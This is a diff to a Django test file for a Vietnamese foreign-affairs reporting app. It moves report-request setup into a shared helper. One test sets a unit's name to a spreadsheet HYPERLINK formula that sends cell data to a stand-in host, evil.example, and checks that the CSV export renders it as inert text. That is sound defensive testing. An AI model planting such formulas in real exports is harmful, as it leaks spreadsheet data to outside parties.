@@ -10,6 +10,8 @@ from ngoaivu.register.models import ForeignAid, IncomingDelegation
 from ngoaivu.register.engine import evaluate
 from ngoaivu.pure.period_parsing import parse
 
+from tests.dashboard.rows import integration_request
+
 pytestmark = pytest.mark.django_db
 
 
@@ -190,19 +192,11 @@ def test_compliance_counts_the_deadlines_of_the_period_per_unit(login, clock):
 
     from django.utils import timezone
 
-    from ngoaivu.collection.models import ReportRequest, Submission
-    from ngoaivu.reporting.models import ReportTemplate
+    from ngoaivu.collection.models import Submission
 
     clock(2023, 12, 31)
     sngv, vp, dh = (Unit.objects.get(code=code) for code in ("SNgV", "VP", "DHPVD"))
-    request = ReportRequest.objects.create(
-        direction="outgoing",
-        subject="Báo cáo hội nhập quốc tế",
-        unit=sngv,
-        template=ReportTemplate.objects.get(code="integration"),
-        period_code="2023",
-        deadline=dt.date(2023, 11, 20),
-    )
+    request = integration_request(sngv)
     Submission.objects.create(
         request=request, unit=vp, status="accepted", submitted_at=timezone.make_aware(dt.datetime(2023, 11, 18, 9))
     )
@@ -217,22 +211,12 @@ def test_compliance_counts_the_deadlines_of_the_period_per_unit(login, clock):
 
 
 def test_a_units_name_typed_like_a_formula_is_text_in_the_csv(login, clock):
-    import datetime as dt
-
-    from ngoaivu.collection.models import ReportRequest, Submission
-    from ngoaivu.reporting.models import ReportTemplate
+    from ngoaivu.collection.models import Submission
 
     clock(2023, 12, 31)
     sngv, vp = Unit.objects.get(code="SNgV"), Unit.objects.get(code="VP")
     Unit.objects.filter(pk=vp.pk).update(short_name='=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')
-    request = ReportRequest.objects.create(
-        direction="outgoing",
-        subject="Báo cáo hội nhập quốc tế",
-        unit=sngv,
-        template=ReportTemplate.objects.get(code="integration"),
-        period_code="2023",
-        deadline=dt.date(2023, 11, 20),
-    )
+    request = integration_request(sngv)
     Submission.objects.create(request=request, unit=vp, status="not_started")
     text = login("chuyenvien").get("/thong-ke/dung-han.csv", {"period": "2023"}).content.decode()
     rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
